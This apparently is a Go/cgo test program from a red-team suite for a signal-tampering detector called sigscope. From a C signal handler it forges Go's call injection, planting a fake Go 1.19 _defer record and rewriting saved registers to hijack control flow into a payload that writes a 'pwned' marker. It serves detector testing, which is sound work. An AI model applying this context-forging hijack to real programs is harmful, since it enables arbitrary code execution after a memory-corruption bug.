// srop_go_sigpanic_async: Go's call injection forged from a C handler (red team round 6).
//
// A Go program (cgo) has a C handler for SIGUSR2. Standing in for an attacker's write primitive,
// the handler plants a fake _defer record in the interrupted goroutine's g._defer whose fn is
// payload (which the program never calls), then edits its frame into the shape of Go's own
// call injection: rsp - 8, the old rip in that slot, rip = runtime.sigpanic0. After the
// sigreturn, sigpanic -> gopanic runs g._defer, and the payload writes the marker.
//
// Why: call_injection explained any of Go's three targets after any signal, from any handler
// in the Go binary. Go pushes sigpanic only from its own signal entry (sigtramp, cgoSigtramp),
// after a fault the kernel raised; asyncPreempt only after SIGURG.
//
// Expected from sigscope: tampered_context high (unexplained); under --enforce, SIGKILL before
// the payload runs (no marker, exit 137). The defer layout is Go 1.19's (Debian 12): the program
// exits 77 (skip) on another Go.
package main

/*
#define _GNU_SOURCE
#include <signal.h>
#include <stdint.h>
#include <string.h>
#include <ucontext.h>

static volatile uint64_t sigpanic0_addr, payload_funcval, spin_lo, spin_hi;
static volatile int armed;
static uint64_t fake_defer[9]; // go1.19 runtime._defer: flags, sp, pc, fn, _panic, link, fd, varp, framepc

// The program's own handler: SIGUSR2 asks for a status dump, say; armed, it is the attacker.
static void handler(int sig, siginfo_t *si, void *ctx)
{
	(void)sig;
	(void)si;
	ucontext_t *uc = ctx;
	greg_t *g = uc->uc_mcontext.gregs;
	// Only in spin's own code: landed in runtime code (a preemption, the channel send), the
	// fake defer goes astray (Go's fatal error, exit 2); the program sends the signal again.
	if (!armed || (uint64_t)g[REG_RIP] < spin_lo || (uint64_t)g[REG_RIP] >= spin_hi)
		return;
	uint64_t gp = (uint64_t)g[REG_R14]; // ABIInternal keeps g in r14
	memset(fake_defer, 0, sizeof(fake_defer));
	fake_defer[3] = payload_funcval;
	fake_defer[5] = *(uint64_t *)(gp + 0x28); // link: the real chain
	*(uint64_t *)(gp + 0x28) = (uint64_t)fake_defer; // g._defer
	g[REG_RSP] -= 8;
	*(uint64_t *)g[REG_RSP] = (uint64_t)g[REG_RIP];
	g[REG_RIP] = (greg_t)sigpanic0_addr;
	armed = 0;
}

static void install(void)
{
	struct sigaction sa;
	memset(&sa, 0, sizeof(sa));
	sa.sa_sigaction = handler;
	sa.sa_flags = SA_SIGINFO | SA_ONSTACK | SA_RESTART;
	sigaction(SIGUSR2, &sa, 0);
}
static void set_addrs(uint64_t sp0, uint64_t fv) { sigpanic0_addr = sp0; payload_funcval = fv; }
static void set_spin(uint64_t lo, uint64_t hi) { spin_lo = lo; spin_hi = hi; }
static void arm(void) { armed = 1; }
static int still_armed(void) { return armed; }
*/
import "C"

import (
	"debug/elf"
	"fmt"
	"os"
	"runtime"
	"strings"
	"sync/atomic"
	"syscall"
	"time"
	"unsafe"
)

const name = "srop_go_sigpanic_async"

var counter uint64

// Never called by the program: only referenced by a hook that is never enabled.
func payload() {
	os.WriteFile(os.Getenv("MARKER"), []byte("pwned"), 0644)
	fmt.Fprintf(os.Stderr, "%s: PWNED\n", name)
	os.Exit(0)
}

var debugHook func() = payload

func spin(tid chan int) {
	runtime.LockOSThread()
	tid <- syscall.Gettid()
	for {
		atomic.AddUint64(&counter, 1)
	}
}

// The attacker's knowledge: a symbol of the (non-PIE) binary.
func symaddr(sym string) uint64 {
	lo, _ := symrange(sym)
	return lo
}

// A symbol's [start, end).
func symrange(sym string) (uint64, uint64) {
	f, err := elf.Open("/proc/self/exe")
	if err != nil {
		panic(err)
	}
	syms, _ := f.Symbols()
	for _, s := range syms {
		if s.Name == sym || s.Name == sym+".abi0" {
			return s.Value, s.Value + s.Size
		}
	}
	panic("no " + sym)
}

func main() {
	fmt.Fprintf(os.Stderr, "%s: pid %d\n", name, os.Getpid())
	if !strings.HasPrefix(runtime.Version(), "go1.19") {
		fmt.Fprintf(os.Stderr, "%s: the fake defer is go1.19's, this is %s\n", name, runtime.Version())
		os.Exit(77)
	}
	if len(os.Args) > 99 {
		debugHook()
	}
	C.install()
	fv := *(*uintptr)(unsafe.Pointer(&debugHook))
	C.set_addrs(C.uint64_t(symaddr("runtime.sigpanic0")), C.uint64_t(fv))
	tidc := make(chan int)
	go spin(tidc)
	tid := <-tidc
	// Only once the goroutine spins in its own code (r14 = its g): a signal that lands while it
	// is still in the channel send hits runtime code, and the fake defer goes astray (exit 2).
	for atomic.LoadUint64(&counter) < 1<<20 {
	}
	lo, hi := symrange("main.spin")
	C.set_spin(C.uint64_t(lo), C.uint64_t(hi))
	C.arm()
	for i := 0; i < 200 && C.still_armed() != 0; i++ {
		syscall.Tgkill(os.Getpid(), tid, syscall.SIGUSR2)
		time.Sleep(10 * time.Millisecond)
	}
	time.Sleep(2 * time.Second)
	fmt.Fprintf(os.Stderr, "%s: not pwned\n", name)
	os.Exit(3)
}
